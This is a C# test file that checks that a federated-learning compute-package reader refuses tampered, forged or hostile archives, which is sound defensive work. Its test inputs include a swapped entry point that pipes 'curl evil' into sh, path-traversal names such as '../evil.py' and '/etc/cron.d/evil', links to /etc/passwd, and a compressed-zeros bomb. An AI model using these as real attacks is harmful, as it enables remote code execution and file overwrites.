using System.Formats.Tar;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using FedN.Contracts;
using FedN.Core.Packages;

namespace FedN.Core.Tests;

/// <summary>Compute packages: made, checked and unpacked; and every way a hostile or broken one is refused.</summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class PackageTests : IDisposable
{
    private static readonly Dictionary<string, IReadOnlyList<string>> EntryPoints = new()
    {
        [PackageEntryPoints.Train] = ["python3", "train.py"],
        [PackageEntryPoints.Validate] = ["python3", "validate.py"],
    };

    private readonly TempDirectory _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task A_package_unpacks_to_its_files_and_its_id_depends_only_on_its_content()
    {
        var source = Source();
        using var key = PackageKey.Generate();
        var (first, archive) = await CreateAsync(source, key);
        var (second, _) = await CreateAsync(source, key);
        Assert.Equal(first.Id, second.Id);
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(first.Manifest.ToBytes())), first.Id);
        Assert.Equal(["lib/model.py", "train.py", "validate.py"], first.Manifest.Files.Select(file => file.Path));

        using var trusted = PackageKey.FromPem(key.ExportPublicPem());
        var target = _temp.File("unpacked");
        var read = await PackageReader.ReadAsync(new MemoryStream(archive), new PackageReadOptions { ExpectedId = first.Id, TrustedKeys = [trusted], ExtractTo = target });

        Assert.Equal((first.Id, key.Id, true), (read.Id, read.SignedBy, read.SignatureVerified));
        Assert.Equal(["python3", "train.py"], read.Manifest.EntryPoints[PackageEntryPoints.Train]);
        Assert.Equal("print('train')\n", File.ReadAllText(Path.Combine(target, "train.py")));
        Assert.Equal("W = 1\n", File.ReadAllText(Path.Combine(target, "lib", "model.py")));
        Assert.True((File.GetUnixFileMode(Path.Combine(target, "train.py")) & UnixFileMode.UserExecute) != 0);
        Assert.True((File.GetUnixFileMode(Path.Combine(target, "validate.py")) & UnixFileMode.UserExecute) == 0);
        Assert.DoesNotContain(Directory.GetDirectories(_temp.Path), directory => directory.EndsWith(".partial", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Skipped_directories_stay_out_and_links_are_refused()
    {
        var source = Source();
        Directory.CreateDirectory(Path.Combine(source, "__pycache__"));
        File.WriteAllText(Path.Combine(source, "__pycache__", "train.cpython-311.pyc"), "x");
        var (package, _) = await CreateAsync(source, signer: null);
        Assert.DoesNotContain(package.Manifest.Files, file => file.Path.Contains("__pycache__", StringComparison.Ordinal));

        File.CreateSymbolicLink(Path.Combine(source, "secrets"), "/etc/passwd");
        var refused = await Assert.ThrowsAsync<PackageException>(() => CreateAsync(source, signer: null));
        Assert.Contains("symbolic link", refused.Message);
    }

    [Fact]
    public async Task A_package_without_an_entry_point_cannot_be_made()
    {
        var refused = await Assert.ThrowsAsync<PackageException>(() => PackageBuilder.CreateAsync(Source(), "p", new Dictionary<string, IReadOnlyList<string>> { ["train"] = ["python3", "train.py"] }, new MemoryStream()));
        Assert.Contains("no 'validate' entry point", refused.Message);
    }

    [Fact]
    public async Task A_file_changed_after_packaging_is_refused_and_nothing_is_unpacked()
    {
        var (package, archive) = await CreateAsync(Source(), signer: null);
        var entries = await EntriesAsync(archive);
        entries[^1] = entries[^1] with { Content = Encoding.UTF8.GetBytes("print('evil')\n") };

        var target = _temp.File("unpacked");
        var refused = await ReadAsync(Build(entries), new PackageReadOptions { ExpectedId = package.Id, ExtractTo = target });
        Assert.Contains("validate.py", refused.Message);
        Assert.Contains("tampered", refused.Message);
        Assert.False(Directory.Exists(target));
        Assert.Single(Directory.GetFileSystemEntries(_temp.Path));
    }

    [Fact]
    public async Task A_changed_manifest_fails_the_expected_id_and_the_signature()
    {
        using var key = PackageKey.Generate();
        var (package, archive) = await CreateAsync(Source(), key);
        var entries = await EntriesAsync(archive);
        var manifest = JsonSerializer.Deserialize<PackageManifest>(entries[0].Content, FedNJson.Options)!;
        var changed = manifest with { EntryPoints = new Dictionary<string, IReadOnlyList<string>> { ["train"] = ["sh", "-c", "curl evil | sh"], ["validate"] = ["python3", "validate.py"] } };
        entries[0] = entries[0] with { Content = changed.ToBytes() };
        var tampered = Build(entries);

        Assert.Contains($"not {package.Id}", (await ReadAsync(tampered, new PackageReadOptions { ExpectedId = package.Id })).Message);
        Assert.Contains("does not verify", (await ReadAsync(tampered, new PackageReadOptions { TrustedKeys = [key] })).Message);
    }

    [Fact]
    public async Task Pinned_keys_refuse_unsigned_packages_and_packages_signed_by_others()
    {
        using var trusted = PackageKey.Generate();
        using var other = PackageKey.Generate();
        var (_, unsigned) = await CreateAsync(Source(), signer: null);
        var (_, signedByOther) = await CreateAsync(Source(), other);

        Assert.Contains("not signed", (await ReadAsync(unsigned, new PackageReadOptions { TrustedKeys = [trusted] })).Message);
        var refused = await ReadAsync(signedByOther, new PackageReadOptions { TrustedKeys = [trusted] });
        Assert.Contains($"signed by key {other.Id}, which this client does not trust (it trusts {trusted.Id})", refused.Message);

        // Without pinned keys both are accepted: the hash alone is checked.
        Assert.False((await PackageReader.ReadAsync(new MemoryStream(signedByOther), new PackageReadOptions())).SignatureVerified);
    }

    [Fact]
    public async Task A_forged_signature_is_refused()
    {
        using var key = PackageKey.Generate();
        var (_, archive) = await CreateAsync(Source(), key);
        var entries = await EntriesAsync(archive);
        var signature = JsonSerializer.Deserialize<PackageSignature>(entries[1].Content, FedNJson.Options)!;
        var bytes = Convert.FromBase64String(signature.Signature);
        bytes[10] ^= 0x40;
        entries[1] = entries[1] with { Content = JsonSerializer.SerializeToUtf8Bytes(signature with { Signature = Convert.ToBase64String(bytes) }, FedNJson.Options) };
        Assert.Contains("does not verify", (await ReadAsync(Build(entries), new PackageReadOptions { TrustedKeys = [key] })).Message);
    }

    [Theory]
    [InlineData("../evil.py")]
    [InlineData("lib/../../evil.py")]
    [InlineData("/etc/cron.d/evil")]
    [InlineData("C:evil.py")]
    [InlineData("lib\\..\\evil.py")]
    public async Task Paths_that_could_leave_the_package_are_refused_before_anything_is_written(string path)
    {
        var (_, archive) = await CreateAsync(Source(), signer: null);
        var entries = await EntriesAsync(archive);
        var content = "evil"u8.ToArray();
        var manifest = JsonSerializer.Deserialize<PackageManifest>(entries[0].Content, FedNJson.Options)!;

        // Listed in the manifest (an honest-looking package) and only present in the archive.
        var listed = manifest with { Files = [.. manifest.Files, new PackageFile(path, content.Length, Convert.ToHexStringLower(SHA256.HashData(content)))] };
        var target = _temp.File("unpacked");
        Assert.NotNull(await ReadAsync(Build([entries[0] with { Content = listed.ToBytes() }, .. entries[1..], new Entry(path, content)]), new PackageReadOptions { ExtractTo = target }));
        Assert.NotNull(await ReadAsync(Build([.. entries, new Entry(path, content)]), new PackageReadOptions { ExtractTo = target }));
        Assert.False(File.Exists(Path.Combine(_temp.Path, "evil.py")));
        Assert.False(Directory.Exists(target));
    }

    [Theory]
    [InlineData(TarEntryType.SymbolicLink)]
    [InlineData(TarEntryType.HardLink)]
    [InlineData(TarEntryType.Fifo)]
    public async Task Links_and_special_files_are_refused(TarEntryType type)
    {
        var (_, archive) = await CreateAsync(Source(), signer: null);
        var entries = await EntriesAsync(archive);
        var refused = await ReadAsync(Build([.. entries, new Entry("link", [], type)]), new PackageReadOptions { ExtractTo = _temp.File("unpacked") });
        Assert.Contains($"is a {type}", refused.Message);
    }

    [Fact]
    public async Task Extra_missing_and_misplaced_entries_are_refused()
    {
        var (_, archive) = await CreateAsync(Source(), signer: null);
        var entries = await EntriesAsync(archive);
        Assert.Contains("not in the package's manifest", (await ReadAsync(Build([.. entries, new Entry("extra.py", "x"u8.ToArray())]), new())).Message);
        Assert.Contains("'validate.py' is in the manifest but not in the archive", (await ReadAsync(Build(entries[..^1]), new())).Message);
        Assert.Contains("appears twice", (await ReadAsync(Build([.. entries, entries[^1]]), new())).Message);
        Assert.Contains("not its manifest", (await ReadAsync(Build([.. entries[1..], entries[0]]), new())).Message);
        Assert.Contains("not a compute package", (await ReadAsync("not an archive at all"u8.ToArray(), new())).Message);
        Assert.Contains("truncated", (await ReadAsync(archive[..(archive.Length / 2)], new())).Message);
    }

    [Fact]
    public async Task Oversized_archives_and_inflating_ones_are_refused_at_the_limit()
    {
        var source = Source();
        File.WriteAllBytes(Path.Combine(source, "weights.bin"), new byte[3 << 20]);
        var (_, archive) = await CreateAsync(source, signer: null);
        Assert.Contains("larger than", (await ReadAsync(archive, new PackageReadOptions { Limits = new PackageLimits { MaxArchiveBytes = archive.Length / 2 } })).Message);

        // 3 MiB of zeros compress to a few kB: the unpacked bound is what stops a bomb.
        Assert.True(archive.Length < 64 << 10);
        Assert.Contains("unpacks to more than", (await ReadAsync(archive, new PackageReadOptions { Limits = new PackageLimits { MaxUnpackedBytes = 1 << 20 } })).Message);
        Assert.Contains("more than", (await Assert.ThrowsAsync<PackageException>(() => PackageBuilder.CreateAsync(source, "p", EntryPoints, new MemoryStream(), limits: new PackageLimits { MaxUnpackedBytes = 1 << 20 }))).Message);
    }

    [Fact]
    public void Keys_round_trip_through_pem_and_a_public_key_cannot_sign()
    {
        using var key = PackageKey.Generate();
        using var privateCopy = PackageKey.FromPem(key.ExportPrivatePem());
        using var publicCopy = PackageKey.FromPem(key.ExportPublicPem());
        Assert.Equal((key.Id, key.Id), (privateCopy.Id, publicCopy.Id));
        Assert.False(publicCopy.HasPrivateKey);
        Assert.True(publicCopy.Verify("m"u8, privateCopy.Sign("m"u8)));
        Assert.Throws<InvalidOperationException>(() => publicCopy.Sign("m"u8));
        Assert.Contains("not a package key", Assert.Throws<PackageException>(() => PackageKey.FromPem("hello")).Message);
    }

    private string Source()
    {
        var directory = _temp.File("source-" + Guid.NewGuid().ToString("N")[..8]);
        Directory.CreateDirectory(Path.Combine(directory, "lib"));
        File.WriteAllText(Path.Combine(directory, "train.py"), "print('train')\n");
        File.SetUnixFileMode(Path.Combine(directory, "train.py"), (UnixFileMode)0b111_101_101);
        File.WriteAllText(Path.Combine(directory, "validate.py"), "print('validate')\n");
        File.WriteAllText(Path.Combine(directory, "lib", "model.py"), "W = 1\n");
        return directory;
    }

    private static async Task<(PackageInfo Package, byte[] Archive)> CreateAsync(string source, PackageKey? signer)
    {
        var output = new MemoryStream();
        var package = await PackageBuilder.CreateAsync(source, "test", EntryPoints, output, signer);
        return (package, output.ToArray());
    }

    private static async Task<PackageException> ReadAsync(byte[] archive, PackageReadOptions options) =>
        await Assert.ThrowsAsync<PackageException>(() => PackageReader.ReadAsync(new MemoryStream(archive), options));

    private sealed record Entry(string Name, byte[] Content, TarEntryType Type = TarEntryType.RegularFile);

    private static async Task<List<Entry>> EntriesAsync(byte[] archive)
    {
        List<Entry> entries = [];
        using var tar = new TarReader(new GZipStream(new MemoryStream(archive), CompressionMode.Decompress));
        while (await tar.GetNextEntryAsync(copyData: true) is { } entry)
        {
            var content = new MemoryStream();
            entry.DataStream?.CopyTo(content);
            entries.Add(new Entry(entry.Name, content.ToArray(), entry.EntryType));
        }

        return entries;
    }

    /// <summary>An archive of exactly these entries, however wrong (what a hostile publisher could send).</summary>
    private static byte[] Build(IEnumerable<Entry> entries)
    {
        var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gzip, TarEntryFormat.Pax))
        {
            foreach (var entry in entries)
            {
                var written = new PaxTarEntry(entry.Type, entry.Name);
                if (entry.Type == TarEntryType.RegularFile)
                {
                    written.DataStream = new MemoryStream(entry.Content);
                }
                else if (entry.Type is TarEntryType.SymbolicLink or TarEntryType.HardLink)
                {
                    written.LinkName = "/etc/passwd";
                }

                tar.WriteEntry(written);
            }
        }

        return output.ToArray();
    }
}
